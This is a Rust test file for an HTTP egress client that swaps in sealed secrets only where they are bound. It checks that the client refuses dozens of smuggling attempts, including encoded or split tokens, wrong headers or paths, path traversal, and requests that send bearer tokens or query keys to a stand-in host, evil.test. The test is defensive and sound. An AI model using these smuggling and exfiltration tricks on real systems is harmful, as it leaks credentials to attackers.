//! Requests that would take a sealed value, or its placeholder, where it does not belong.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use http::Request;

use super::world::{Guest, Pieces, World, is_spilled, request};
use crate::error::egress::EgressError;
use crate::request::placeholder::Placeholder;
use um_base::Coded;

type Ask = fn(&Guest) -> Request<Pieces>;

fn get(guest: &Guest, path: &str, fields: &[(&str, &str)]) -> Request<Pieces> {
    request("GET", &guest.url(path), fields, "")
}

fn field(guest: &Guest, name: &str, value: &str) -> Request<Pieces> {
    get(guest, "/v1", &[(name, value)])
}

fn authorization(guest: &Guest, value: impl AsRef<str>) -> Request<Pieces> {
    field(guest, "authorization", value.as_ref())
}

fn post(guest: &Guest, kind: &str, body: impl AsRef<str>) -> Request<Pieces> {
    request("POST", &guest.url("/v1"), &[("content-type", kind)], body.as_ref())
}

fn json(guest: &Guest, body: impl AsRef<str>) -> Request<Pieces> {
    post(guest, "application/json", body)
}

fn form(guest: &Guest, body: impl AsRef<str>) -> Request<Pieces> {
    post(guest, "application/x-www-form-urlencoded", body)
}

fn cut(guest: &Guest, body: impl AsRef<str>, cut: usize) -> Request<Pieces> {
    post(guest, "text/plain", "").map(|_| Pieces::of(body.as_ref(), cut))
}

fn bearer(guest: &Guest, host: &str, port: u16) -> Request<Pieces> {
    guest.bearer(&format!("http://{host}:{port}/v1"))
}

/// What is tried, the code that it is refused by, and the request.
const ATTEMPTS: &[(&str, &str, Ask)] = &[
    ("another header", "sealed-other-field", |guest| field(guest, "x-note", &guest.token)),
    ("User-Agent", "sealed-other-field", |guest| field(guest, "user-agent", &guest.token)),
    ("Cookie", "sealed-other-field", |guest| field(guest, "cookie", &guest.token)),
    ("Referer", "sealed-other-field", |guest| field(guest, "referer", &guest.token)),
    ("X-Forwarded-For", "sealed-other-field", |guest| field(guest, "x-forwarded-for", &guest.token)),
    ("Content-Type", "sealed-other-field", |guest| field(guest, "content-type", &guest.token)),
    ("another secret's header", "sealed-other-field", |guest| field(guest, "x-both", &guest.token)),
    ("another secret in a header", "sealed-other-field", |guest| {
        authorization(guest, format!("Bearer {}", guest.both))
    }),
    ("a header's secret in the query", "sealed-other-field", |guest| {
        get(guest, &format!("/?api_key={}", guest.token), &[])
    }),
    ("another parameter", "sealed-other-field", |guest| get(guest, &format!("/?q={}", guest.key), &[])),
    ("a query's secret in a header", "sealed-other-field", |guest| authorization(guest, &guest.key)),
    ("another field of a form", "sealed-other-field", |guest| form(guest, format!("note={}", guest.field))),
    ("another member of JSON", "sealed-other-field", |guest| json(guest, format!("{{\"note\": \"{}\"}}", guest.field))),
    ("one cookie of several", "placeholder-not-whole", |guest| {
        field(guest, "cookie", &format!("a=b; s={}", guest.token))
    }),
    ("a parameter of Content-Type", "placeholder-not-whole", |guest| {
        post(guest, &format!("multipart/form-data; boundary={}", guest.token), "")
    }),
    ("text behind it", "placeholder-not-whole", |guest| authorization(guest, format!("Bearer {}; x=y", guest.token))),
    ("text before it", "placeholder-not-whole", |guest| authorization(guest, format!("x{}", guest.token))),
    ("two spaces", "placeholder-not-whole", |guest| authorization(guest, format!("Bearer  {}", guest.token))),
    ("twice in a header", "placeholder-not-whole", |guest| {
        authorization(guest, format!("Bearer {0}, {0}", guest.token))
    }),
    ("part of a parameter", "placeholder-not-whole", |guest| get(guest, &format!("/?api_key=x{}", guest.key), &[])),
    ("the name of a parameter", "placeholder-not-whole", |guest| get(guest, &format!("/?{}=1", guest.key), &[])),
    ("a query that is nothing else", "placeholder-not-whole", |guest| get(guest, &format!("/?{}", guest.key), &[])),
    ("the path", "placeholder-misplaced", |guest| get(guest, &format!("/{}", guest.token), &[])),
    ("a percent-encoded path", "placeholder-misplaced", |guest| {
        get(guest, &format!("/{}", guest.token.replace('_', "%5f")), &[])
    }),
    ("the host, and so the name server", "placeholder-misplaced", |guest| {
        request("GET", &format!("http://{}.api.test:{}/", guest.token, guest.home), &[], "")
    }),
    ("the method", "placeholder-misplaced", |guest| request(&guest.token, &guest.url("/"), &[], "")),
    ("the name of a header", "placeholder-misplaced", |guest| field(guest, &guest.token, "x")),
    ("base64", "placeholder-unknown", |guest| {
        authorization(guest, format!("Bearer {}", STANDARD.encode(&guest.token)))
    }),
    ("base64 one byte on", "placeholder-unknown", |guest| {
        authorization(guest, STANDARD.encode(format!("x{}", guest.token)))
    }),
    ("base64 two bytes on", "placeholder-unknown", |guest| {
        authorization(guest, STANDARD.encode(format!("xy{}", guest.token)))
    }),
    ("base64 of base64", "placeholder-unknown", |guest| {
        authorization(guest, STANDARD.encode(STANDARD.encode(&guest.token)))
    }),
    ("user and password", "placeholder-unknown", |guest| {
        authorization(guest, format!("Basic {}", STANDARD.encode(format!("{0}:{0}", guest.token))))
    }),
    ("part of a password", "placeholder-unknown", |guest| {
        authorization(guest, format!("Basic {}", STANDARD.encode(format!("user:x{}", guest.token))))
    }),
    ("upper case", "placeholder-unknown", |guest| authorization(guest, guest.token.to_uppercase())),
    ("hexadecimal", "placeholder-unknown", |guest| {
        authorization(guest, guest.token.bytes().map(|byte| format!("{byte:02x}")).collect::<String>())
    }),
    ("reversed", "placeholder-unknown", |guest| authorization(guest, guest.token.chars().rev().collect::<String>())),
    ("cut", "placeholder-unknown", |guest| authorization(guest, &guest.token[..30])),
    ("one letter changed", "placeholder-unknown", |guest| authorization(guest, format!("{}g", &guest.token[..41]))),
    ("split over two headers", "placeholder-unknown", |guest| {
        get(guest, "/", &[("x-a", &guest.token[..21]), ("x-b", &guest.token[21..])])
    }),
    ("percent-encoded", "placeholder-unknown", |guest| {
        get(guest, &format!("/?api_key={}", guest.key.replace('u', "%75")), &[])
    }),
    ("another run's", "placeholder-unknown", |guest| authorization(guest, Placeholder::new().as_str())),
    ("another run's, in the query", "placeholder-unknown", |guest| {
        get(guest, &format!("/?api_key={}", Placeholder::new()), &[])
    }),
    ("in two fields it is bound to", "placeholder-twice", |guest| {
        get(guest, &format!("/?api_key={}", guest.both), &[("x-both", &guest.both)])
    }),
    ("two headers of a name", "placeholder-twice", |guest| {
        get(guest, "/", &[("authorization", &guest.token), ("authorization", &guest.token)])
    }),
    ("a parameter that is there twice", "placeholder-twice", |guest| {
        get(guest, &format!("/?api_key={}&api%5fkey=x", guest.key), &[])
    }),
    ("a member that is there twice", "placeholder-twice", |guest| {
        json(guest, format!("{{\"token\": \"{}\", \"t\\u006fken\": 1}}", guest.field))
    }),
    ("a field of a form that is there twice", "placeholder-twice", |guest| {
        form(guest, format!("token={0}&token={0}", guest.field))
    }),
    ("another host", "sealed-other-host", |guest| bearer(guest, "evil.test", guest.away)),
    ("another host on the same port", "sealed-other-host", |guest| bearer(guest, "evil.test", guest.home)),
    ("a host that begins as the bound one", "sealed-other-host", |guest| {
        bearer(guest, "api.test.evil.test", guest.away)
    }),
    ("a host below", "sealed-other-host", |guest| bearer(guest, "x.api.test", guest.home)),
    ("the same address under another name", "sealed-other-host", |guest| bearer(guest, "example.test", guest.home)),
    ("another port", "sealed-other-host", |guest| bearer(guest, "api.test", guest.away)),
    ("no encryption", "sealed-other-host", |guest| field(guest, "x-secure", &guest.secure)),
    ("a query's secret to another host", "sealed-other-host", |guest| {
        request("GET", &format!("http://evil.test:{}/?api_key={}", guest.away, guest.key), &[], "")
    }),
    ("another method", "sealed-other-method", |guest| field(guest, "x-narrow", &guest.narrow)),
    ("a method in lower case", "sealed-other-method", |guest| {
        request("post", &guest.url("/v1"), &[("x-narrow", &guest.narrow)], "")
    }),
    ("another path", "sealed-other-path", |guest| {
        request("POST", &guest.url("/v10/x"), &[("x-narrow", &guest.narrow)], "")
    }),
    ("a path with dots", "sealed-other-path", |guest| {
        request("POST", &guest.url("/v1/%2e%2e/admin"), &[("x-narrow", &guest.narrow)], "")
    }),
    ("TRACK", "sealed-method", |guest| request("TRACK", &guest.url("/"), &[("authorization", &guest.token)], "")),
    ("Range", "sealed-range", |guest| get(guest, "/", &[("authorization", &guest.token), ("range", "bytes=10-12")])),
    ("If-Range", "sealed-range", |guest| get(guest, "/", &[("authorization", &guest.token), ("if-range", "\"x\"")])),
    ("Request-Range", "sealed-range", |guest| {
        get(guest, "/", &[("authorization", &guest.token), ("request-range", "bytes=10-12")])
    }),
    ("a body", "placeholder-misplaced", |guest| cut(guest, format!("note: {}", guest.token), 1000)),
    ("a body in upper case", "placeholder-misplaced", |guest| cut(guest, guest.token.to_uppercase(), 1000)),
    ("a body in base64", "placeholder-misplaced", |guest| {
        cut(guest, STANDARD.encode(format!("x{}", guest.token)), 1000)
    }),
    ("a body with percent signs", "placeholder-misplaced", |guest| cut(guest, guest.token.replace('m', "%256d"), 5)),
    ("a body of another run's", "placeholder-misplaced", |guest| cut(guest, Placeholder::new().as_str(), 1000)),
    ("a body to another host", "placeholder-misplaced", |guest| {
        request("POST", &format!("http://evil.test:{}/", guest.away), &[], &guest.token)
    }),
    ("a part of a multipart body", "placeholder-misplaced", |guest| {
        let part = format!("--b\r\nContent-Disposition: form-data; name=\"token\"\r\n\r\n{}\r\n--b--\r\n", guest.field);
        post(guest, "multipart/form-data; boundary=b", part)
    }),
    ("another member besides", "placeholder-not-whole", |guest| {
        json(guest, format!("{{\"token\": \"{0}\", \"note\": [\"{0}\"]}}", guest.field))
    }),
    ("a member inside", "placeholder-not-whole", |guest| {
        json(guest, format!("{{\"a\": {{\"token\": \"{}\"}}}}", guest.field))
    }),
    ("part of a member", "placeholder-not-whole", |guest| json(guest, format!("{{\"token\": \"x{}\"}}", guest.field))),
    ("the name of a member", "placeholder-not-whole", |guest| {
        json(guest, format!("{{\"{}\": \"token\"}}", guest.field))
    }),
    ("an escaped member", "placeholder-unknown", |guest| {
        json(guest, format!("{{\"token\": \"\\u0075{}\"}}", &guest.field[1..]))
    }),
    ("broken JSON", "placeholder-not-whole", |guest| json(guest, format!("{{\"token\": \"{}\"", guest.field))),
    ("a header's secret in a body with fields", "placeholder-misplaced", |guest| {
        json(guest, format!("{{\"token\": \"{}\"}}", guest.token))
    }),
    ("a body cut in the middle", "placeholder-misplaced", |guest| cut(guest, format!("note: {}", guest.token), 9)),
    ("a body cut to bytes", "placeholder-misplaced", |guest| {
        cut(guest, format!("note: {}", STANDARD.encode(&guest.token)), 1)
    }),
];

#[tokio::test]
async fn no_request_takes_a_sealed_value_where_it_does_not_belong() {
    let world = World::new().await;
    for (what, code, ask) in ATTEMPTS {
        let guest = world.guest().await;
        match guest.send(ask(&guest)).await {
            Err(EgressError::Sealed { fault, .. }) => assert_eq!(fault.code(), *code, "{what}: {fault}"),
            sent => panic!("{what}: {sent:?}"),
        }
        let reached = world.take();
        assert!(!is_spilled(&reached), "{what} reached:\n{reached}");
    }
}

/// There is no way to send these at all.
#[tokio::test]
async fn what_the_client_sends_for_nobody_it_does_not_send_with_a_placeholder() {
    let world = World::new().await;
    let asks: [(&str, Ask); 4] = [
        ("TRACE", |guest| request("TRACE", &guest.url("/"), &[("authorization", &guest.token)], "")),
        ("CONNECT", |guest| request("CONNECT", &guest.url("/"), &[("authorization", &guest.token)], "")),
        ("the user in the url", |guest| {
            request("GET", &format!("http://{}@api.test:{}/", guest.token, guest.home), &[], "")
        }),
        ("Host", |guest| field(guest, "host", &guest.token)),
    ];
    for (what, ask) in asks {
        let guest = world.guest().await;
        let _ = guest.send(ask(&guest)).await;
        let reached = world.take();
        assert!(!is_spilled(&reached), "{what} reached:\n{reached}");
    }
    let guest = world.guest().await;
    let trailers = |text: &str| Some([("x-note".parse().unwrap(), text.parse().unwrap())].into_iter().collect());
    let with_trailers = cut(&guest, "text", 9).map(|body| Pieces { trailers: trailers(&guest.token), ..body });
    guest.send(with_trailers).await.unwrap();
    let reached = world.take();
    assert!(!is_spilled(&reached) && reached.contains("text"), "{reached}");
}

#[tokio::test]
async fn what_does_belong_goes_out() {
    let world = World::new().await;
    let guest = world.guest().await;
    let basic = |pair: String| format!("Basic {}", STANDARD.encode(pair));
    let token = super::world::TOKEN;
    for (request, due) in [
        (authorization(&guest, &guest.token), format!("authorization: {token}\r\n")),
        (authorization(&guest, format!("Bearer {}", guest.token)), format!("authorization: Bearer {token}\r\n")),
        (
            authorization(&guest, basic(format!("me:{}", guest.token))),
            format!("authorization: {}\r\n", basic(format!("me:{token}"))),
        ),
        (
            get(&guest, &format!("/?a=1&api_key={}&b", guest.key), &[]),
            "GET /?a=1&api_key=key-16C7e42F292c_6912.7710c8&b ".to_owned(),
        ),
        (
            form(&guest, format!("a=+b&token={}&c", guest.field)),
            "\r\n\r\na=+b&token=field-16C7e42F292c_6912.7710c8&c".to_owned(),
        ),
        (
            json(&guest, format!("{{\"token\":\"{}\"}}", guest.field)),
            "{\"token\":\"field-16C7e42F292c_6912.7710c8\"}".to_owned(),
        ),
        (
            request("POST", &guest.url("/v1/a"), &[("x-narrow", &guest.narrow)], ""),
            "x-narrow: narrow_16C7e42F292c6912E7710c8\r\n".to_owned(),
        ),
        (cut(&guest, "any text, with um-sealed things", 4), "\r\n\r\nany text, with um-sealed things".to_owned()),
    ] {
        guest.send(request).await.unwrap();
        let reached = world.take();
        assert!(reached.contains(&due) && !reached.contains("um_sealed_"), "{reached}\nlacks {due}");
    }
}
